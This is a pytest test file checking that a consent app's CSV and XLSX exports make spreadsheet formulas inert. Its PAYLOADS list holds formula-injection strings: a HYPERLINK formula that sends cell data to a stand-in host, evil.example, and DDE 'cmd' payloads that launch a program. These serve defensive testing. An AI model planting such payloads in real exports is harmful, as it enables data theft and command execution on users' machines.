"""CSV and XLSX exports cannot carry a formula into Excel (consents/spreadsheets.py)."""

import csv
import datetime as dt
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from consents.spreadsheets import (
    FORMULA_TRIGGERS,
    csv_bytes,
    csv_response,
    safe_cell,
    xlsx_bytes,
    xlsx_response,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def read_xlsx(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_starts_like_a_formula_is_made_inert(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Zoë de Vries", "van der Berg", "", 12, -5, 2.5, None])
def test_ordinary_values_and_numbers_are_left_alone(value):
    assert safe_cell(value) == value


def test_a_csv_export_neutralises_every_payload_and_keeps_the_rest():
    rows = [[payload, "Zoë", -3] for payload in PAYLOADS]
    parsed = read_csv(csv_bytes(["name", "first name", "count"], rows))
    assert parsed[0] == ["name", "first name", "count"]
    for payload, row in zip(PAYLOADS, parsed[1:], strict=True):
        assert row == ["'" + payload, "Zoë", "-3"]


def test_an_xlsx_export_holds_no_formula_and_keeps_numbers_and_dates():
    rows = [[payload, 7, dt.date(2026, 9, 1)] for payload in PAYLOADS]
    parsed = read_xlsx(xlsx_bytes(["name", "count", "date"], rows))
    for payload, row in zip(PAYLOADS, parsed[1:], strict=True):
        assert row[0] == ("'" + payload.replace("\r", "\n"), "s")  # XLSX stores \r as \n
        assert row[1] == (7, "n")
        assert row[2][0].date() == dt.date(2026, 9, 1)


@given(st.lists(st.text(max_size=40), min_size=1, max_size=5))
def test_no_text_at_all_reaches_a_spreadsheet_as_a_formula(texts):
    for row in read_csv(csv_bytes(["h"] * len(texts), [texts]))[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS)
    for row in read_xlsx(xlsx_bytes(["h"] * len(texts), [texts]))[1:]:
        for value, data_type in row:
            assert data_type != "f"
            assert value is None or not str(value).startswith(FORMULA_TRIGGERS)


def test_a_control_character_in_front_of_a_formula_does_not_smuggle_it_into_xlsx():
    parsed = read_xlsx(xlsx_bytes(["name"], [["\x00=1+1"], ["Zo\x0bë"]]))
    assert parsed[1] == [("'=1+1", "s")]
    assert parsed[2] == [("Zoë", "s")]


def test_downloads_are_attachments_with_the_right_type():
    response = csv_response("export.csv", ["a"], [["=1"]])
    assert response["Content-Disposition"] == 'attachment; filename="export.csv"'
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    response = xlsx_response("export.xlsx", ["a"], [["=1"]])
    assert response["Content-Type"].endswith("spreadsheetml.sheet")
